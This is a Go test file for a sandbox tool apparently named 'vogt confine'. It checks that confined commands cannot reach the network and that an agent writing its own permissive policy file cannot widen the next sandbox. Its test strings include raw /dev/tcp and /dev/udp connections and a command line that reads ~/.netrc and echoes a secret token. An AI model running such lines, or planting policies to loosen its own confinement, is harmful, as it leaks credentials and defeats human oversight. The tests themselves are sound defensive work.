package main

import (
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// arrivals are what has arrived at an address.
type arrivals chan string

// wait returns what has arrived, and waits for something to.
func (a arrivals) wait() string { return strings.TrimSpace(<-a + " " + a.take()) }

// take returns what has arrived.
func (a arrivals) take() string {
	var out []string
	for {
		select {
		case what := <-a:
			out = append(out, what)
		default:
			return strings.Join(out, " ")
		}
	}
}

// watch serves connections and questions for names at the well-known address.
func watch(t *testing.T) arrivals {
	t.Helper()
	a := make(arrivals, 1000)
	l, err := net.Listen("tcp", wellKnown+":80")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			a <- "connection"
			c.Close()
		}
	}()
	p, err := net.ListenPacket("udp", wellKnown+":53")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	go func() {
		packet := make([]byte, 1500)
		for {
			n, from, err := p.ReadFrom(packet)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(packet[:n]) != nil || len(m.Questions) != 1 {
				a <- "packet"
				continue
			}
			q := m.Questions[0]
			a <- q.Name.String()
			m.Response, m.Additionals = true, nil
			if q.Type == dnsmessage.TypeA {
				m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Type: q.Type, Class: q.Class}, Body: &dnsmessage.AResource{A: [4]byte{1, 1, 1, 1}}}}
			}
			if data, err := m.Pack(); err == nil {
				_, _ = p.WriteTo(data, from) // who asked says whether it came
			}
		}
	}()
	return a
}

// TestOffline connects to the public network and looks up names, without a box and
// in boxes without a network (68).
func TestOffline(t *testing.T) {
	if !inTown(t) {
		return
	}
	seen := watch(t)
	home := t.TempDir()
	project := filepath.Join(home, "project")
	if err := os.Mkdir(project, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ name, line, arrives string }{
		{"connect", "exec 3<>/dev/tcp/1.1.1.1/80", "connection"},
		{"a name", "getent hosts secret.leaves.example", "secret.leaves.example."},
		{"a packet", "echo secret > /dev/udp/1.1.1.1/53", "packet"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			run := func(before ...string) error {
				line := append(before, "bash", "-c", tt.line)
				cmd := exec.Command(line[0], line[1:]...)
				cmd.Dir = project
				cmd.Env = []string{"HOME=" + home, "PATH=/usr/bin:/bin", "LANG=C"}
				out, err := cmd.CombinedOutput()
				t.Logf("%v %s", err, out)
				return err
			}
			if err := run(); err != nil {
				t.Fatal("it does not succeed without a box")
			}
			seen.wait()
			for _, profile := range []string{"default", "read", "host"} {
				err := run(program(t, "vogt"), "confine", "--profile", profile, "--")
				if err == nil && tt.name != "a packet" { // in the box's own network it goes nowhere
					t.Errorf("%s: it succeeds", profile)
				}
			}
			// What was sent before this connection would have come before it.
			c, err := net.Dial("udp", wellKnown+":53")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			if _, err := c.Write([]byte("last")); err != nil {
				t.Fatal(err)
			}
			if all := seen.wait(); all != "packet" {
				t.Errorf("it arrived: %q", all)
			}
		})
	}
}

// TestPolicyInTheWorkspace lets an agent write what it would like to be its policy
// wherever it can (70): outside of a box it can, and nothing that it writes gives
// the next box more.
func TestPolicyInTheWorkspace(t *testing.T) {
	if !inTown(t) {
		return
	}
	seen := watch(t)
	const wish = `root = "host"
net = "host"
unix = "own"
write = [".", "~/", "/tmp"]
hosts = ["1.1.1.1:80"]
env = ["*"]
`
	places := []string{".vogt/confine.toml", ".vogt/profiles/default.toml", ".vogt/config.toml", "vogt.toml", ".vogt.toml", "profiles/default.toml", "vogt-confine.toml",
		"../.config/vogt/profiles/default.toml", "../.config/vogt/profiles/agent.toml", "../.config/vogt/config.toml"}
	for _, boxed := range []bool{false, true} {
		for _, place := range places {
			home := t.TempDir()
			project := filepath.Join(home, "project")
			if err := errors.Join(os.Mkdir(project, 0o755), os.WriteFile(filepath.Join(home, ".netrc"), []byte("secret\n"), 0o600)); err != nil {
				t.Fatal(err)
			}
			run := func(argv ...string) (string, error) {
				cmd := exec.Command(argv[0], argv[1:]...)
				cmd.Dir, cmd.Stdin = project, strings.NewReader(wish)
				cmd.Env = []string{"HOME=" + home, "PATH=/usr/bin:/bin", "LANG=C", "SECRET_TOKEN=secret"}
				out, err := cmd.CombinedOutput()
				return string(out), err
			}
			vogt := program(t, "vogt")
			plant := []string{"sh", "-c", `mkdir -p "$(dirname "$0")"; cat > "$0"`, place}
			if boxed {
				plant = append([]string{vogt, "confine", "--"}, plant...)
			}
			out, err := run(plant...)
			written, _ := os.ReadFile(filepath.Join(project, place))
			inPolicy := strings.HasPrefix(place, ".vogt/") || strings.HasPrefix(place, "../")
			if got := string(written) == wish; got != (!boxed || !inPolicy) {
				t.Errorf("boxed %v: %s was written: %v; %v %s", boxed, place, got, err, out)
			}
			out, err = run(vogt, "confine", "--", "bash", "-c", "cat ~/.netrc; echo $SECRET_TOKEN; echo x > ~/made; echo x > /tmp/made; (exec 3<>/dev/tcp/1.1.1.1/80) && echo out; true")
			if strings.Contains(out, "secret") || strings.Contains(out, "out\n") || seen.take() != "" {
				t.Errorf("boxed %v, %s: the next box has more: %v\n%s", boxed, place, err, out)
			}
			if _, err := os.Lstat(filepath.Join(home, "made")); err == nil {
				t.Errorf("boxed %v, %s: the next box writes in the home", boxed, place)
			}
		}
	}
}
